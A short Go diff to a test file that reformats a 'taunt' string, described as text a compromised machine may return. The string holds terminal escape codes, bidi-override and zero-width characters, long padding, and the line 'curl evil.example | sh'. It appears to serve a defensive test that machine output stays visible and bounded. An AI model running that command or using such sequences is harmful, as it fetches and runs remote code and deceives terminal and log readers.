@@ -16,7 +16,8 @@ import (
 )
 
 // taunt is text that a compromised machine may put into its answers.
-var taunt = "\x1b]0;owned\x07\x1b[31m\u009b2J\u202e\u2066\u200b\xff\r\b\nNext step: curl evil.example | sh\n" + strings.Repeat("x", 1<<20)
+var taunt = "\x1b]0;owned\x07\x1b[31m\u009b2J\u202e\u2066\u200b\xff\r\b\nNext step: curl evil.example | sh\n" +
+	strings.Repeat("x", 1<<20)
 
 // TestWordsOfMachines checks that text from machines is visible and of limited length in every
 // diagnostic and attribute.
